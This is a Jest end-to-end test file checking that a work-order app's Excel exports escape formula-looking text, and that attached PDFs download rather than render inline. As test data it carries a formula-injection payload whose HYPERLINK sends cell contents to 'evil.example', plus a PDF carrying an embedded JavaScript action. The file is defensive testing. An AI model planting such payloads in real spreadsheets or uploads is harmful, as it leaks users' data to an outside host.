import ExcelJS from 'exceljs';
import { createTestApp, TestApp } from '../support/test-app';
import { downloadReport, waitForReport } from '../support/report-fixtures';
import { binaryParser, postAt, workOrderWorld } from '../support/work-order-fixtures';

/**
 * Issue #22, finding 13 (a, d): what the product hands out. Text a resident typed that a spreadsheet
 * would run as a formula (`=HYPERLINK(…)`, `@SUM(…)`, `+…`, `-…`) is written as text with a leading
 * quote in every workbook — the exports and the monthly report — while numbers stay numbers; and an
 * attached PDF is downloaded rather than rendered on our origin, photos still shown inline.
 */
describe('Downloads: workbooks and attachments (e2e)', () => {
  jest.setTimeout(120_000);
  let t: TestApp;
  const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';

  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => t?.close());

  async function workbookOf(body: Buffer): Promise<ExcelJS.Workbook> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ArrayBuffer);
    return workbook;
  }

  const cellsOf = (sheet: ExcelJS.Worksheet) => {
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    return cells;
  };

  it('writes formula-looking text as text in the work-order export; numbers stay numbers', async () => {
    const world = await workOrderWorld(t);
    const created = await postAt(t, '2026-10-10T02:00:00.000Z', world.frontDesk, '', {
      estateId: world.estate.id,
      unitId: world.unit.id,
      category: 'plumbing',
      priority: 'urgent',
      channel: 'phone',
      description: HOSTILE,
      reporterName: '@SUM(1+1)',
      reporterPhone: '13812345678',
    }).expect(201);
    const id = created.body.id as string;
    await postAt(t, '2026-10-10T02:05:00.000Z', world.frontDesk, `/${id}/assign`, {
      assigneeId: world.technician.user.id,
    }).expect(200);
    await postAt(t, '2026-10-10T02:10:00.000Z', world.technician, `/${id}/start`).expect(200);
    await postAt(t, '2026-10-10T03:00:00.000Z', world.technician, `/${id}/complete`, {
      resolution: '更换阀门',
      labourMinutes: 30,
      chargeable: false,
    }).expect(200);
    const response = await t.http
      .get('/api/v1/work-orders/export.xlsx')
      .query({ estateId: world.estate.id, from: '2026-10-01', to: '2026-10-31' })
      .set(world.manager.auth)
      .buffer(true)
      .parse(binaryParser as never)
      .expect(200);
    const sheet = (await workbookOf(response.body as Buffer)).worksheets[0];
    const values = cellsOf(sheet).map((cell) => cell.value);
    expect(values).toContain(`'${HOSTILE}`);
    expect(values).toContain("'@SUM(1+1)");
    expect(values).not.toContain(HOSTILE);
    expect(cellsOf(sheet).filter((cell) => cell.formula || cell.type === ExcelJS.ValueType.Formula)).toEqual(
      [],
    );
    expect(values).toContain(30); // labour minutes: still a number
  });

  it('writes formula-looking text as text in the monthly report workbook', async () => {
    const estate = await t.factory.estate({ name: '=1+2 花园' });
    const finance = await t.factory.user('finance', [estate]);
    t.clock.set('2026-11-10T02:00:00.000Z');
    const created = await t.http
      .post('/api/v1/reports/monthly')
      .set(finance.auth)
      .send({ estateId: estate.id, period: '2026-10', formats: ['xlsx'], locale: 'en' })
      .expect(202);
    const ready = await waitForReport(t, finance, created.body.id);
    expect(ready.status).toBe('ready');
    const workbook = await workbookOf(
      (await downloadReport(t, finance, created.body.id, 'xlsx')).body as Buffer,
    );
    const values = workbook.worksheets.flatMap((sheet) => cellsOf(sheet).map((cell) => cell.value));
    expect(values).toContain(`'=1+2 花园 (${estate.code})`);
    expect(values.filter((value) => typeof value === 'string' && /^[=+\-@\t\r]/.test(value))).toEqual([]);
    expect(values.some((value) => typeof value === 'number')).toBe(true);
  });

  it('downloads an attached PDF (Content-Disposition: attachment) and shows photos inline', async () => {
    const world = await workOrderWorld(t);
    const created = await postAt(t, '2026-10-15T02:00:00.000Z', world.frontDesk, '', {
      estateId: world.estate.id,
      unitId: world.unit.id,
      category: 'plumbing',
      priority: 'routine',
      channel: 'phone',
      description: '漏水',
      reporterName: '王先生',
      reporterPhone: '13812345678',
    }).expect(201);
    const id = created.body.id as string;
    const pdf = Buffer.from(
      '%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>> endobj\n',
    );
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('pixels'),
    ]);
    const download = async (file: Buffer, name: string) => {
      const uploaded = await t.http
        .post(`/api/v1/work-orders/${id}/attachments`)
        .set(world.frontDesk.auth)
        .attach('file', file, { filename: name })
        .expect(201);
      return t.http
        .get(`/api/v1/work-orders/${id}/attachments/${uploaded.body.id}`)
        .set(world.manager.auth)
        .buffer(true)
        .parse(binaryParser as never)
        .expect(200);
    };
    const gotPdf = await download(pdf, '报价单.pdf');
    expect(gotPdf.headers['content-type']).toBe('application/pdf');
    expect(gotPdf.headers['content-disposition']).toBe(
      `attachment; filename*=UTF-8''${encodeURIComponent('报价单.pdf')}`,
    );
    expect(gotPdf.headers['x-content-type-options']).toBe('nosniff');
    const gotPng = await download(png, '现场.png');
    expect(gotPng.headers['content-disposition']).toMatch(/^inline; /);
  });
});
